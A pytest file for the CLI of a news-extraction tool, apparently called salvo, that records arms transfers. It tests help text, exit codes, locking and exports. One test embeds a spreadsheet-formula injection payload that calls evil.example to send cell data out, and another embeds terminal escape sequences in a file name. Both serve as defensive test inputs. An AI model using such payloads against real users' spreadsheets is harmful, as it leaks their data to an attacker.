"""The command line: help everywhere, exit codes, the lock, export formats."""

from __future__ import annotations

import csv
import html
import importlib.util
import io
import json
import re
import sqlite3

import pytest
from conftest import FIXTURES, query, salvo
from typer.testing import CliRunner

from pipeline import __version__, migrations
from pipeline.cli import app
from pipeline.database import make_engine
from pipeline.export import spreadsheet_safe
from pipeline.records import STAGES
from pipeline.run.lock import RunLock
from pipeline.store import Store

runner = CliRunner()
COMMANDS = [[], ["ingest"], ["export"], ["runs"], ["errors"], ["summary"], ["sql"], ["explain"],
            ["db"], ["db", "upgrade"], ["db", "current"], ["db", "check"], ["claims"],
            ["history"], ["ledger"], ["reviews"], ["serve"], ["datasette-metadata"]]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: " ".join(c) or "salvo")
def test_every_command_has_help(command):
    for flag in ("--help", "-h"):
        result = runner.invoke(app, [*command, flag])
        assert result.exit_code == 0, flag
        assert "Usage" in result.output


def test_top_level_help_documents_exit_codes():
    result = runner.invoke(app, ["--help"])
    assert "75" in result.output and "fatal" in result.output


@pytest.mark.parametrize("args", [["ingest"], ["ingest", "x", "--workers", "0"],
                                  ["export", "--format", "xml"], ["frobnicate"]],
                         ids=["no-paths", "zero-workers", "bad-format", "unknown-command"])
def test_usage_errors_exit_2(args):
    assert runner.invoke(app, args).exit_code == 2


def test_database_in_missing_folder_is_fatal(tmp_path, corpus):
    result = salvo("ingest", str(corpus), "--db", str(tmp_path / "no" / "such" / "s.db"))
    assert result.returncode == 3
    assert "No such file or directory" in result.stderr


def test_schema_newer_than_code_is_fatal_and_changes_nothing(tmp_path, corpus):
    db = tmp_path / "s.db"
    assert salvo("db", "upgrade", "--db", str(db)).returncode == 0
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE alembic_version SET version_num = 'zz_future'")
    result = salvo("ingest", str(corpus), "--db", str(db))
    assert result.returncode == 3
    assert "newer than this salvo" in result.stderr
    assert query(db, "SELECT count(*) FROM runs") == [(0,)]


def test_second_run_while_one_holds_the_lock_exits_75_and_changes_nothing(tmp_path, corpus):
    db = tmp_path / "s.db"
    with RunLock(str(db)):
        result = salvo("ingest", str(corpus), "--db", str(db))
    assert result.returncode == 75
    assert "another salvo run" in result.stderr
    assert db.stat().st_size == 0  # the lock holder made the file (the lock is on it), empty


def test_db_commands(tmp_path):
    db = tmp_path / "s.db"
    db.touch()  # an empty file is an empty SQLite database; a missing one is not made
    assert "database: empty" in salvo("db", "current", "--db", str(db)).stdout
    assert salvo("db", "check", "--db", str(db)).returncode == 1
    assert salvo("db", "upgrade", "--db", str(db)).returncode == 0
    check = salvo("db", "check", "--db", str(db))
    assert check.returncode == 0 and "models match migrations" in check.stdout


def test_db_can_be_given_by_environment(tmp_path, corpus):
    db = tmp_path / "env.db"
    result = runner.invoke(app, ["db", "upgrade"], env={"SALVO_DB": str(db)})
    assert result.exit_code == 0 and db.exists()


def test_export_jsonl_follows_the_contract(demo_db):
    result = salvo("export", "--db", str(demo_db), "--format", "jsonl")
    assert result.returncode == 0
    articles = [json.loads(line) for line in result.stdout.splitlines()]
    assert articles
    for art in articles:
        for key in ("source_path", "url", "title", "author", "published", "site", "language",
                    "text", "events", "attributions"):
            assert key in art
        for ev in art["events"]:
            assert ev["type"] in ("arms_transfer", "troop_deployment")
            assert art["text"][ev["start"]:ev["end"]] == ev["sentence"]
            quantity = ev["quantity"]
            assert quantity is None or isinstance(quantity["value"], int) or (
                quantity["value"] is None and quantity["low"] < quantity["high"])
            assert ev["stage"] in STAGES
            assert (ev["weapon"] is None) == (ev["type"] == "troop_deployment") or ev["weapon"]
        for att in art["attributions"]:
            assert art["text"][att["start"]:att["end"]]
            assert isinstance(att["direct"], bool) and att["speaker"]
    assert sum(len(a["events"]) for a in articles) > 0


def test_export_csv_has_one_row_per_event(demo_db, tmp_path):
    out = tmp_path / "events.csv"
    assert salvo("export", "--db", str(demo_db), "--format", "csv", "--out",
                 str(out)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == query(demo_db, "SELECT count(*) FROM events")[0][0]
    assert {"source_path", "title", "type", "supplier", "recipient", "quantity"} <= set(rows[0])


def test_runs_and_summary_read_the_database(demo_db):
    runs = salvo("runs", "--db", str(demo_db))
    assert runs.returncode == 0 and "ok" in runs.stdout
    summary = salvo("summary", "--db", str(demo_db))
    assert summary.returncode == 0 and "arms_transfer" in summary.stdout


def test_reading_commands_refuse_a_missing_database(tmp_path):
    result = salvo("export", "--db", str(tmp_path / "none.db"))
    assert result.returncode == 3 and "no database" in result.stderr


def test_follow_symlinks_option_reaches_discovery(tmp_path):
    inside, outside = tmp_path / "in", tmp_path / "out"
    inside.mkdir()
    outside.mkdir()
    (outside / "weather.txt").write_text(
        "Mild weather\n\nThe week stayed mild and calm, and the farmers in the valley said "
        "that the harvest had been the best one they could remember for many years.\n")
    (inside / "weather.txt").symlink_to(outside / "weather.txt")
    db = tmp_path / "s.db"
    refused = salvo("ingest", str(inside), "--db", str(db), "--workers", "1")
    assert refused.returncode == 1, refused.stderr
    assert query(db, "SELECT error FROM document_errors") == [
        (f"symlink leads outside the folders given, to {outside / 'weather.txt'}; "
         "--follow-symlinks follows it",)]
    followed = salvo("ingest", str(inside), "--db", str(db), "--workers", "1",
                     "--follow-symlinks")
    assert followed.returncode == 0, followed.stderr
    assert query(db, "SELECT count(*) FROM article_paths") == [(1,)]


READERS = [["runs"], ["errors"], ["summary"], ["export"], ["export", "--format", "csv"],
           ["sql", "SELECT 1"]]
BAD_DATABASES = [  # (command, database): `db` commands read any SQLite file, upgrade makes one
    *[(command, bad) for command in READERS for bad in ("garbage", "missing", "no-schema")],
    *[(["db", name], bad) for name in ("current", "check") for bad in ("garbage", "missing")],
    (["db", "upgrade"], "garbage")]


def _bad_database(tmp_path, kind: str):
    db = tmp_path / "bad.db"
    if kind == "garbage":
        db.write_bytes(b"not a database, just some bytes " * 200)
    elif kind == "no-schema":
        with sqlite3.connect(db) as conn:
            conn.execute("CREATE TABLE other (x)")
    return db


@pytest.mark.parametrize(("command", "kind"), BAD_DATABASES,
                         ids=[f"{' '.join(c)}-{k}" for c, k in BAD_DATABASES])
def test_bad_database_is_one_line_and_exit_3_never_a_traceback(tmp_path, command, kind):
    db = _bad_database(tmp_path, kind)
    result = runner.invoke(app, [*command, "--db", str(db)])
    assert result.exit_code == 3, result.output
    assert isinstance(result.exception, SystemExit)
    assert len(result.output.strip().splitlines()) == 1, result.output
    assert result.output.startswith("salvo: ")
    assert db.exists() == (kind != "missing")  # never made


def test_db_current_on_a_misspelt_name_does_not_create_the_file(tmp_path):
    result = runner.invoke(app, ["db", "current", "--db", str(tmp_path / "typo.db")])
    assert result.exit_code == 3
    assert "no database at" in result.output
    assert list(tmp_path.iterdir()) == []


def test_missing_input_path_is_a_usage_error(tmp_path, corpus):
    db = tmp_path / "s.db"
    result = runner.invoke(app, ["ingest", str(corpus), str(tmp_path / "nope"), "--db", str(db)])
    assert result.exit_code == 2
    assert result.output == f"salvo: no such file or folder: {tmp_path / 'nope'}\n"
    assert not db.exists()


def test_output_file_that_cannot_be_written_is_a_usage_error(demo_db, tmp_path):
    out = tmp_path / "no" / "such" / "folder" / "events.csv"
    result = runner.invoke(app, ["export", "--db", str(demo_db), "--out", str(out)])
    assert result.exit_code == 2
    assert result.output.startswith(f"salvo: cannot write {out}: No such file or directory")


def test_version():
    result = runner.invoke(app, ["--version"])
    assert (result.exit_code, result.output) == (0, f"salvo {__version__}\n")


def test_csv_export_defuses_spreadsheet_formulas(tmp_path):
    folder, db, out = tmp_path / "in", tmp_path / "s.db", tmp_path / "events.csv"
    folder.mkdir()
    title = '=HYPERLINK("http://evil.example/?"&A1,"Germany sends tanks")'
    (folder / "story.html").write_text(
        f"<html><head><title>{html.escape(title)}</title></head><body><article>"
        f"<h1>{html.escape(title)}</h1><p>Germany delivered 18 Leopard 2 tanks to Ukraine on "
        "Monday, the defence ministry in Berlin said in a statement to reporters.</p><p>The "
        "tanks arrived by rail after weeks of training for their crews, officials said.</p>"
        "</article></body></html>")
    assert salvo("ingest", str(folder), "--db", str(db), "--workers", "1").returncode == 0
    assert salvo("export", "--db", str(db), "--format", "csv", "--out", str(out)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows and all(row["title"] == "'" + title for row in rows)
    assert ("Germany", "18") in {(row["supplier"], row["quantity"]) for row in rows}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_defused(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe(-2) == -2 and spreadsheet_safe("Germany") == "Germany"


@pytest.mark.parametrize(("url", "module", "package"), [
    ("postgresql://u:p@localhost/news", "psycopg", "'psycopg[binary]'"),
    ("postgresql+psycopg2://u@localhost/news", "psycopg2", "psycopg2-binary")],
    ids=["psycopg", "psycopg2"])
@pytest.mark.parametrize("command", [["runs"], ["ingest", str(FIXTURES)]], ids=" ".join)
def test_database_url_without_its_driver_names_the_package(url, module, package, command):
    if importlib.util.find_spec(module) is not None:
        pytest.skip(f"{module} is installed")
    result = runner.invoke(app, [*command, "--db", url])
    assert (result.exit_code, result.output) == (
        3, f"salvo: postgresql needs a driver that is not installed: pip install {package}\n")


def test_reports_show_control_characters_escaped_and_times_in_iso_8601(tmp_path):
    db = tmp_path / "s.db"
    engine = make_engine(str(db))
    migrations.upgrade(engine)
    store = Store(engine)
    run = store.start_run("ingest test", "0", "r1")
    store.record_error(run, "/in/\x1b[2Jevil[bold].txt", "read", "cannot read: \x07bell")
    store.finish_run(run, status="partial", exit_code=1, counts={})
    engine.dispose()
    errors = runner.invoke(app, ["errors", "--db", str(db)], env={"COLUMNS": "200"})
    assert errors.exit_code == 0, errors.output
    assert "\x1b" not in errors.output and "\x07" not in errors.output
    assert "/in/\\x1b[2Jevil[bold].txt" in errors.output and "\\x07bell" in errors.output
    runs = runner.invoke(app, ["runs", "--db", str(db)], env={"COLUMNS": "200"})
    assert len(re.findall(r"\b\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ\b", runs.output)) == 2, runs.output


@pytest.mark.parametrize("command", [["runs"], ["errors"], ["summary"]], ids=" ".join)
def test_reports_in_csv_and_json_carry_the_same_rows(demo_db, command):
    def run(fmt: str) -> str:
        result = runner.invoke(app, [*command, "--db", str(demo_db), "--format", fmt])
        assert result.exit_code == 0, result.output
        return result.output

    rows = list(csv.DictReader(io.StringIO(run("csv"))))
    data = json.loads(run("json"))
    records = data if isinstance(data, list) else [
        {"table": title, **record} for title, records in data.items() for record in records]
    assert len(rows) == len(records)
    assert records or command == ["errors"]  # the demo run stores every fixture
    assert [{k: "" if v is None else str(v) for k, v in r.items()} for r in records] == [
        {k: v for k, v in row.items() if k in r} for row, r in zip(rows, records, strict=True)]


def test_runs_stay_whole_at_80_columns(demo_db):
    result = runner.invoke(app, ["runs", "--db", str(demo_db)], env={"COLUMNS": "80"})
    assert result.exit_code == 0
    assert all(len(line) <= 80 for line in result.output.splitlines())
    assert len(re.findall(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", result.output)) == 2
    assert re.search(r"status\s+ok", result.output)


def test_shell_completion_is_offered_and_completes_commands():
    script = salvo("--show-completion", "bash")
    assert script.returncode == 0 and "_salvo_completion" in script.stdout
    words = salvo(env={"_SALVO_COMPLETE": "complete_bash", "COMP_WORDS": "salvo ing",
                       "COMP_CWORD": "1"})
    assert words.stdout.split() == ["ingest"]


def test_summary_agrees_with_the_views(demo_db):
    result = runner.invoke(app, ["summary", "--db", str(demo_db), "--format", "json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert [tuple(r.values()) for r in data["top weapon systems"]] == query(
        demo_db, "SELECT weapon, weapon_category, reports, max_quantity FROM weapon_summary "
                 "LIMIT 10")
    assert [tuple(r.values()) for r in data["top flows"]] == query(
        demo_db, "SELECT supplier, recipient, type, events, max_quantity "
                 "FROM supplier_recipient_summary LIMIT 10")
    assert sum(r["events"] for r in data["top sources"]) <= query(
        demo_db, "SELECT count(*) FROM event_facts WHERE source_name IS NOT NULL")[0][0]
    [latest] = data["latest run"]
    assert (latest["id"], latest["status"]) == query(
        demo_db, "SELECT id, status FROM runs ORDER BY id DESC LIMIT 1")[0]
    assert latest["started"].endswith("Z")
